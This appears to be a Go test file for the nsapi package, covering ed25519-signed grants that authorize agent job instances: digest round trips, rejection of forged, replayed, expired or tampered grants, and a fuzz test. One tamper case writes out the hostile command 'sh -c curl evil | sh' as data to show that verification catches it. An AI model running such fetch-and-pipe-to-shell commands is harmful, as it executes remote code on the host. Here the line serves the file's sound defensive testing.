package nsapi

import (
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"testing"
	"time"
)

func testJob() Job {
	return Job{ID: "job-1", Name: "inventory <&> \"quoted\" ünïcode", Validity: Duration(time.Hour), Tasks: []Task{
		{Name: "id", Command: []string{"id", "-u"}, Timeout: Duration(30 * time.Second),
			OnExit: []ExitRule{{Codes: []int{0}, Action: ActionContinue}, {Codes: []int{3, 4}, Action: ActionJump, Jump: 2}}},
		{Name: "script", Script: "#!/bin/sh\necho 'a\tb' > /tmp/x\n", Interpreter: "/bin/sh", Timeout: Duration(time.Minute)},
	}}
}

func testGrant(t *testing.T, key ed25519.PrivateKey, in JobInstance, agent string, issued, notAfter time.Time) JobInstance {
	t.Helper()
	d, err := JobDigest(in.Job)
	if err != nil {
		t.Fatal(err)
	}
	g, err := SignGrant(key, GrantBody{Instance: in.ID, Agent: agent, JobID: in.JobID, JobDigest: d, IssuedAt: issued, NotAfter: notAfter})
	if err != nil {
		t.Fatal(err)
	}
	in.Grant = &g
	return in
}

// The digest survives the trip through JSON that every instance takes from the NS through
// a task server to the agent.
func TestJobDigestRoundTrip(t *testing.T) {
	j := testJob()
	want, err := JobDigest(j)
	if err != nil {
		t.Fatal(err)
	}
	for range 3 {
		b, err := json.Marshal(JobInstance{ID: "i", JobID: j.ID, Job: j})
		if err != nil {
			t.Fatal(err)
		}
		var in JobInstance
		if err := json.Unmarshal(b, &in); err != nil {
			t.Fatal(err)
		}
		got, err := JobDigest(in.Job)
		if err != nil || got != want {
			t.Fatalf("digest after a JSON round trip = %s, want %s (%v)", got, want, err)
		}
		j = in.Job
	}
}

func TestVerifyGrant(t *testing.T) {
	pub, key, _ := ed25519.GenerateKey(nil)
	otherPub, otherKey, _ := ed25519.GenerateKey(nil)
	_ = otherPub
	now := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
	base := JobInstance{ID: "inst-1", JobID: "job-1", Agent: "agent-a", Job: testJob()}
	good := testGrant(t, key, base, "agent-a", now.Add(-time.Minute), now.Add(time.Hour))

	tests := map[string]struct {
		in    func() JobInstance
		agent string
		key   ed25519.PublicKey
		now   time.Time
		want  error
	}{
		"valid":   {in: func() JobInstance { return good }, want: nil},
		"missing": {in: func() JobInstance { in := good; in.Grant = nil; return in }, want: ErrGrantMissing},
		"made up by a task server with its own key": {
			in: func() JobInstance { return testGrant(t, otherKey, base, "agent-a", now, now.Add(time.Hour)) }, want: ErrGrantSignature},
		"another agent's instance replayed": {in: func() JobInstance { return good }, agent: "agent-b", want: ErrGrantAgent},
		"grant moved onto another instance": {
			in: func() JobInstance { in := good; in.ID = "inst-2"; return in }, want: ErrGrantInstance},
		"task command changed": {
			in: func() JobInstance {
				in := good
				in.Job = testJob()
				in.Job.Tasks[0].Command = []string{"sh", "-c", "curl evil | sh"}
				return in
			}, want: ErrGrantJob},
		"task added": {
			in: func() JobInstance {
				in := good
				in.Job = testJob()
				in.Job.Tasks = append(in.Job.Tasks, Task{Name: "x", Command: []string{"id"}, Timeout: Duration(time.Second)})
				return in
			}, want: ErrGrantJob},
		"job id swapped": {
			in: func() JobInstance { in := good; in.JobID = "job-2"; in.Job = testJob(); in.Job.ID = "job-2"; return in }, want: ErrGrantJob},
		"payload edited after signing": {
			in: func() JobInstance {
				in := good
				g := *good.Grant
				g.Payload = append([]byte(nil), g.Payload...)
				g.Payload[len(g.Payload)-3] ^= 1
				in.Grant = &g
				return in
			}, want: ErrGrantSignature},
		"expired": {in: func() JobInstance { return good }, now: now.Add(2 * time.Hour), want: ErrGrantExpired},
		"issued far in the future": {in: func() JobInstance {
			return testGrant(t, key, base, "agent-a", now.Add(time.Hour), now.Add(2*time.Hour))
		}, want: ErrGrantMalformed},
		"no pinned key":               {in: func() JobInstance { return good }, key: ed25519.PublicKey{}, want: ErrGrantNoKey},
		"short signature":             {in: func() JobInstance { in := good; g := *good.Grant; g.Sig = g.Sig[:10]; in.Grant = &g; return in }, want: ErrGrantMalformed},
		"signed garbage is malformed": {in: func() JobInstance { in := good; in.Grant = signedRaw(key, []byte(`{"instance":1}`)); return in }, want: ErrGrantMalformed},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			agent, k, at := tt.agent, tt.key, tt.now
			if agent == "" {
				agent = "agent-a"
			}
			if k == nil {
				k = pub
			}
			if at.IsZero() {
				at = now
			}
			body, err := VerifyGrant(k, tt.in(), agent, at)
			if !errors.Is(err, tt.want) || (tt.want == nil) != (err == nil) {
				t.Fatalf("VerifyGrant = %v, want %v", err, tt.want)
			}
			if err == nil && (body.Instance != "inst-1" || body.Agent != "agent-a") {
				t.Fatalf("body = %+v", body)
			}
			if err != nil && GrantReason(err) == "" {
				t.Fatal("no reason label")
			}
		})
	}
}

func signedRaw(key ed25519.PrivateKey, payload []byte) *Grant {
	return &Grant{Payload: payload, Sig: ed25519.Sign(key, grantMessage(payload))}
}

// Whatever a task server sends, VerifyGrant does not panic and accepts nothing it did not
// get signed by the NS for this agent.
func FuzzVerifyGrant(f *testing.F) {
	pub, key, _ := ed25519.GenerateKey(nil)
	now := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
	job := testJob()
	d, _ := JobDigest(job)
	g, _ := SignGrant(key, GrantBody{Instance: "inst-1", Agent: "agent-a", JobID: job.ID, JobDigest: d, IssuedAt: now, NotAfter: now.Add(time.Hour)})
	f.Add([]byte(g.Payload), g.Sig, "inst-1", []byte(`{"id":"job-1","name":"x","tasks":[]}`), false)
	f.Add([]byte(`{}`), make([]byte, 64), "x", []byte(`{}`), true)
	f.Fuzz(func(t *testing.T, payload, sig []byte, instance string, jobJSON []byte, resign bool) {
		var j Job
		if json.Unmarshal(jobJSON, &j) != nil {
			j = job
		}
		gr := &Grant{Payload: payload, Sig: sig}
		if resign {
			// Signed by the NS: then only the content checks stand between it and running.
			gr = signedRaw(key, payload)
		}
		in := JobInstance{ID: instance, JobID: j.ID, Job: j, Grant: gr}
		body, err := VerifyGrant(pub, in, "agent-a", now)
		if err != nil {
			return
		}
		if !resign && !ed25519.Verify(pub, grantMessage(payload), sig) {
			t.Fatal("accepted a grant the NS did not sign")
		}
		dd, _ := JobDigest(j)
		if body.Agent != "agent-a" || body.Instance != instance || body.JobDigest != dd || !now.Before(body.NotAfter) {
			t.Fatalf("accepted %+v for instance %q", body, instance)
		}
	})
}

// A grant reaches the agent through the NS's JSON, a task server's decoding and its own
// JSON again: its payload must come out byte for byte, or no signature would check.
func TestGrantSurvivesRelay(t *testing.T) {
	pub, key, _ := ed25519.GenerateKey(nil)
	now := time.Now()
	in := testGrant(t, key, JobInstance{ID: "inst-1", JobID: "job-1", Agent: "agent-a", Job: testJob()}, "agent-a", now, now.Add(time.Hour))
	for hop := range 3 {
		b, err := json.Marshal(WorkResponse{Instances: []JobInstance{in}})
		if err != nil {
			t.Fatal(err)
		}
		var w WorkResponse
		if err := json.Unmarshal(b, &w); err != nil {
			t.Fatal(err)
		}
		in = w.Instances[0]
		if _, err := VerifyGrant(pub, in, "agent-a", now); err != nil {
			t.Fatalf("after %d relays: %v", hop+1, err)
		}
	}
}
